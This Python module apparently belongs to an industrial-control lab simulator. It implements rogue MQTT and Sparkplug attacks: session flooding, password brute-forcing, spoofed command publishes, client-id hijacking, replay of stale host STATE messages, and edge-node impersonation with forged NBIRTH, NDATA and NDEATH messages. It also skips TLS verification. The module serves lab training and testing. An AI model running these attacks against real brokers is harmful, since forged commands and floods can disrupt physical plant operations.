"""Attacks over MQTT, those on Sparkplug included."""

from __future__ import annotations

import json
from collections.abc import Iterator
from contextlib import contextmanager

from labsim.endpoints.mqtt.topic_tree import fill_topic
from labsim.errors import InputError
from labsim.lab.rogue import acts
from labsim.lab.rogue.station import Acts, Station, typed
from labsim.lab.rogue.table import VICTIM
from labsim.plant.tags import Tag
from labsim.probe.credentials import Credentials
from labsim.probe.mqtt import MqttProbe
from labsim.scenario.mqtt import MqttSpec, SparkplugSpec
from labsim.sparkplug.datatype import DataType
from labsim.sparkplug.payload import REBIRTH, Metric, Payload, bd_seq, encode
from labsim.sparkplug.topic import HostState, Kind, Topic, state_topic

_TURN_S = 0.05
_NUMBERS = 256


class MqttHand:
    """An MQTT client that knows the command topics of the plant's tags; it sends commands and reads nothing."""

    def __init__(self, station: Station, probe: MqttProbe) -> None:
        self._station, self._probe = station, probe

    def read(self, tag: Tag) -> float:
        """See `Hand`."""
        raise InputError(f"{tag.path}: a rogue MQTT client reads no tag.")

    def write(self, tag: Tag, value: float) -> None:
        """See `Hand`."""
        payload = json.dumps({"value": typed(tag, value)}).encode()
        self._probe.deliver(self._probe.publish(command_topic(self._station, tag), payload, 1))


def command_topic(station: Station, tag: Tag) -> str:
    """Where a tag takes commands.

    Raises:
        InputError: nowhere.
    """
    assert isinstance(station.spec, MqttSpec), "of an MQTT endpoint"
    if not station.spec.commands or tag.device not in station.spec.devices or not tag.writable:
        raise InputError(f"{tag.path} takes no commands over this endpoint: give 'topic' and 'payload'.")
    place = station.scenario.plant[tag.device].place or ""
    return fill_topic(station.spec.commands, tag.device, place, tag=tag.name)


def node_of(station: Station) -> SparkplugSpec:
    """The edge node of the endpoint.

    Raises:
        InputError: it is none.
    """
    assert isinstance(station.spec, MqttSpec), "of an MQTT endpoint"
    if station.spec.sparkplug is None:
        raise InputError("this endpoint is no Sparkplug edge node.")
    return station.spec.sparkplug


def host_of(station: Station) -> str:
    """The host application whose state is told.

    Raises:
        InputError: none is known.
    """
    assert isinstance(station.spec, MqttSpec), "of an MQTT endpoint"
    node = station.spec.sparkplug
    found = station.text("application") or (node.primary_host if node is not None else "")
    if not found:
        raise InputError("no edge node of this endpoint has a primary host: give 'application'.")
    return found


@contextmanager
def _client(station: Station, user: str = "", password: str = "", name: str = "") -> Iterator[MqttProbe]:
    target = station.target(user, password)
    credentials = Credentials(insecure=True) if target.scheme in ("mqtts", "wss") else None
    with MqttProbe(target, client_id=name or station.name, credentials=credentials) as probe:
        yield probe


@contextmanager
def _hand(station: Station, user: str, password: str) -> Iterator[MqttHand]:
    with _client(station, user, password) as probe:
        yield MqttHand(station, probe)


def acts_of(station: Station, attack: str) -> Acts:
    """What an attack does."""
    if attack == "session-flood":
        names = iter(range(10**6))
        yield from acts.session_flood(station, lambda: _client(station, name=f"{station.name}-{next(names)}"))
    elif attack == "brute-force":
        yield from acts.brute_force(station, lambda user, password: _hand(station, user, password))
    elif attack == "default-password":
        yield from acts.default_password(station, lambda user, password: _hand(station, user, password))
    else:
        user, password = station.account() if station.text("user") else ("", "")
        with _client(station, user, password, station.text("client_id")) as probe:
            if attack == "spoofed-publish":
                yield from _spoof(station, probe)
            elif attack == "duplicate-client-id":
                while True:
                    probe.pump(_TURN_S)
                    yield f"came as {station.text('client_id')}"
            elif attack == "old-state":
                yield from _old_state(station, probe)
            else:
                yield from _edge_node(station, probe, attack)


def _spoof(station: Station, probe: MqttProbe) -> Acts:
    if VICTIM in station.parameters:
        yield from acts.write(station, MqttHand(station, probe))
    topic, payload = station.text("topic"), station.text("payload").encode()
    while True:
        probe.deliver(probe.publish(topic, payload, 1, bool(station.number("retain"))))
        yield f"published to {topic}"


def _old_state(station: Station, probe: MqttProbe) -> Acts:
    """A STATE is retained [host-topic-phid-birth-retain]; what counts is its timestamp."""
    topic = state_topic(host_of(station))
    while True:
        old = HostState(False, station.utc_ms() - round(station.number("age") * 1000))
        probe.deliver(probe.publish(topic, old.encode(), 1, True))
        yield f"published to {topic}"


def _edge_node(station: Station, probe: MqttProbe, attack: str) -> Acts:
    """The id of our edge node in somebody else's mouth."""
    node, seq = node_of(station), 0

    def send(kind: Kind, metrics: list[Metric], number: int | None) -> str:
        topic = str(Topic(node.group, kind, node.edge))
        payload = encode(Payload(timestamp=station.utc_ms(), metrics=metrics, seq=number))
        probe.deliver(probe.publish(topic, payload, 1 if kind == "NDEATH" else 0))
        return f"published to {topic}"

    if attack == "late-ndeath":
        while True:
            yield send("NDEATH", [bd_seq(int(station.number("bd_seq")), station.utc_ms())], None)
    rebirth = Metric.of(False, DataType.BOOLEAN, name=REBIRTH, timestamp=station.utc_ms())
    yield send("NBIRTH", [bd_seq(0, station.utc_ms()), rebirth], seq)
    while True:
        seq = (seq + 1) % _NUMBERS
        yield send("NDATA", [rebirth], seq)
